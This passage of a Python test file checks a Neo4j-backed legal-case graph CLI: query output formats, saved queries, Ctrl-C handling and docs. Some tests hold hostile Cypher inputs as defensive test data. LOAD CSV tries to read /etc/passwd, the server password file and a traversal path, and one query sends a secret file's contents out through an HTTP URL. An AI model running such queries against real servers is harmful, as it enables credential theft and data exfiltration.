    gone = invoke(env, "query", "--cypher", "MATCH (n:Scratch) DELETE n", "--write")
    assert gone.exit_code == 0, gone.output
    assert ad_hoc(store, "MATCH (n:Scratch) RETURN count(n) AS n") == [{"n": 0}]


# -- the server: LOAD CSV only from the import directory, errors that quote no data ----------
def test_load_csv_reads_only_the_import_directory(store: Store, neo4j_settings: Settings) -> None:
    imports = neo4j_settings.server_dir / "import"
    (imports / "ok.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    assert ad_hoc(store, "LOAD CSV FROM 'file:///ok.csv' AS l RETURN l", write=True) == [
        {"l": ["a", "b"]}, {"l": ["1", "2"]}]
    password = neo4j_settings.server_dir / "password"
    for url in ("file:///etc/passwd", f"file://{password}", "file:///../password"):
        with pytest.raises(QueryError, match=r"ExternalResourceFailed\); its message is not shown"):
            run_query(store.driver, f"LOAD CSV FROM '{url}' AS l RETURN l", write=True)


def test_an_error_never_quotes_what_the_query_read(store: Store, neo4j_settings: Settings,
                                                   env: dict[str, str]) -> None:
    secret = "TOPSECRET-4242"
    (neo4j_settings.server_dir / "import" / "secret.csv").write_text(f"{secret}\n", encoding="utf-8")
    exfiltrate = ("LOAD CSV FROM 'file:///secret.csv' AS l "
                  "LOAD CSV FROM 'http://127.0.0.1:9/' + l[0] AS m RETURN m")
    result = invoke(env, "query", "--cypher", exfiltrate, "--write")
    assert result.exit_code == 1
    assert secret not in result.output
    assert result.output.startswith("Error: the query failed on the server (Neo.ClientError.Statement.")
    stats = invoke(env, "stats", "--from", "neo4j", "--cypher", exfiltrate)
    assert stats.exit_code == 1 and secret not in stats.output
    assert "LOAD CSV is not allowed" in stats.output


# -- the command line ------------------------------------------------------------------------
def test_queries_lists_the_library(env: dict[str, str]) -> None:
    result = invoke(env, "queries", "--format", "json")
    assert result.exit_code == 0, result.output
    listed = json.loads(result.output)
    assert [q["name"] for q in listed] == [q.name for q in list_queries()]
    timeline = next(q for q in listed if q["name"] == "person-timeline")
    assert [(p["name"], p["type"], p["required"]) for p in timeline["parameters"]] == [
        ("person", "entity", True), ("since", "date", False), ("until", "date", False)]


def test_query_formats_and_limit(store: Store, env: dict[str, str]) -> None:
    as_csv = invoke(env, "query", "case-defendants", "-p", "case", "Alpha case", "--format", "csv")
    assert as_csv.exit_code == 0, as_csv.output
    raw = as_csv.stdout_bytes.decode("utf-8")
    assert raw.count("\r\n") == 3  # RFC 4180 line ends: a header and two rows
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert rows[0] == ["defendant", "status", "charge", "case_charges", "lawyers", "sources",
                       "defendant_key", "case_key", "lawyer_keys", "claim_ids"]  # readable first, keys last
    assert rows[1][:3] == ["Ivan Testenko", "accused", "RU CC 205.5"]
    assert rows[1][5] == "source:fixture-alpha-report; source:fixture-beta-news"
    table = invoke(env, "query", "--cypher", "MATCH (p:Person) RETURN p ORDER BY p.key", "--limit", "2")
    assert table.exit_code == 0, table.output
    assert "(:Person person:dmytro-deputy)" in table.output and "person:hanna-head" in table.output
    assert "Note: only the first 2 rows are shown; more were cut (raise --limit)" in table.output
    as_json = json.loads(invoke(env, "query", "--cypher", "MATCH p = (:Person {key: 'person:refat-chubarov'})"
                                "-[:LEADS]->() RETURN p", "--format", "json").output)
    assert as_json["cut"] is False and as_json["limit"] == 1000
    path = as_json["rows"][0]["p"]
    assert [n["properties"]["key"] for n in path["nodes"]] == ["person:refat-chubarov", "org:mejlis"]
    assert path["relationships"][0]["type"] == "LEADS"


def test_query_option_of_the_shared_graph_input(store: Store, env: dict[str, str]) -> None:
    cypher = invoke(env, "stats", "--from", "neo4j", "--cypher",
                    "MATCH (p:Person)-[r:COUNSEL_IN]->(c) RETURN r", "--format", "json")
    assert cypher.exit_code == 0, cypher.output
    assert json.loads(cypher.output)["types"] == {"COUNSEL_IN": 4}
    unknown = invoke(env, "stats", "--from", "neo4j", "--query", "no-such-query")
    assert unknown.exit_code == 1 and "no saved query 'no-such-query'" in unknown.output
    files = invoke(env, "stats", str(CRIMEA), "--query", "disputed-facts")
    assert files.exit_code == 2 and "--query goes with --from neo4j" in files.output
    missing = invoke(env, "stats", "--from", "neo4j", "--query", "case-network")
    assert missing.exit_code == 1 and "case-network needs -p case VALUE" in missing.output
    ok = invoke(env, "stats", "--from", "neo4j", "--query", "case-network", "-p", "case", "Alpha case")
    assert ok.exit_code == 0, ok.output


def test_ctrl_c_ends_the_server_transaction(store: Store, env: dict[str, str]) -> None:
    marker = "ctrl_c_marker"
    text = f"UNWIND range(1, 100000000000) AS x WITH x WHERE x < 0 RETURN x AS {marker}"
    casegraph = Path(sys.executable).parent / "casegraph"
    proc = subprocess.Popen([str(casegraph), "query", "--cypher", text, "--timeout", "600"],
                            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    find = ("SHOW TRANSACTIONS YIELD transactionId, currentQuery "
            f"WHERE currentQuery CONTAINS '{marker}' AND NOT currentQuery CONTAINS 'SHOW' RETURN transactionId")
    try:
        while not ad_hoc(store, find):  # wait until the query runs on the server (not a timing assertion)
            assert proc.poll() is None, proc.communicate()
            time.sleep(0.2)
        proc.send_signal(signal.SIGINT)
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130, err
    assert err.strip().splitlines()[-1] == "Interrupted."
    assert ad_hoc(store, find) == []


# -- the docs --------------------------------------------------------------------------------
def test_the_docs_show_every_saved_query() -> None:
    page = (ROOT / "docs" / "query.md").read_text(encoding="utf-8")
    match = re.search(r"^## Saved queries\n(.*?)(?=^#{1,2} )", page, re.S | re.M)
    assert match, "docs/query.md has no '## Saved queries' section"
    section = match.group(1)
    missing = [q.name for q in list_queries() if not re.search(rf"casegraph query {re.escape(q.name)}\b", section)]
    assert missing == []
